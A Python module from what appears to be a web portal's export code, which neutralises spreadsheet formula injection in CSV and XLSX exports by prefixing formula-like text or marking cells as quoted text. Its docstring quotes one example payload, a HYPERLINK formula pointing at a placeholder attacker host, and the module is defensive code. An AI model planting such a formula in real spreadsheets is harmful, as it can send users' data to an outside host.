"""Cells of exported spreadsheets that stay data: the one rule against formula injection ("CSV
injection", OWASP) for every CSV and XLSX the portal writes (the admin's "Export selected", the
report exports).

Organisation names, fair names and report titles are typed by companies and staff. A spreadsheet
program opening an export runs a cell such as ``=HYPERLINK("http://evil.example","x")`` as a
formula (a link that sends data away, or worse, DDE), so a text that starts like a formula is
written so that it is shown, never run. Only texts are touched: numbers, dates and booleans keep
their value and type (a negative amount is not a formula, and a prefixed one would no longer sum).
"""

from __future__ import annotations

from typing import Any, TypeVar

from openpyxl.cell.cell import Cell

# The characters OWASP lists: what Excel, LibreOffice and Google Sheets take for the start of a
# formula ("+" and "-" as a sign, "@" as a function in older Excel), and tab and carriage return,
# which an import may skip as leading whitespace before reading what follows them.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

T = TypeVar("T")


def is_formula_like(value: Any) -> bool:
    """Whether ``value`` is a text that a spreadsheet program could take for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def escape_formula(value: T) -> T:
    """``value`` for a CSV cell: a formula-like text with a leading ``'`` (which spreadsheet
    programs read as "this is text"), anything else unchanged.

    A prefix rather than stripping the character: stripping would silently change the data
    ("-2+3" would become "2+3"), the prefix is visible and a reader can take it off.
    """
    if is_formula_like(value):
        return "'" + value  # type: ignore[return-value]  # value is a str here
    return value


def set_cell_value(cell: Cell, value: Any) -> Cell:
    """Assign ``value`` to an openpyxl cell, a text always as a text cell.

    openpyxl stores a string starting with "=" as a formula and one such as "#N/A" as an error
    value; here a string is always stored as a string (data type "s"). A formula-like text also
    gets Excel's quote-prefix style (what typing ``'=1+1`` into Excel gives): Excel keeps showing it
    as text even after the cell is edited, and the value itself stays unchanged, without a visible
    apostrophe. Numbers, dates and booleans are assigned as they are.
    """
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
        if is_formula_like(value):
            cell.quotePrefix = True
    return cell
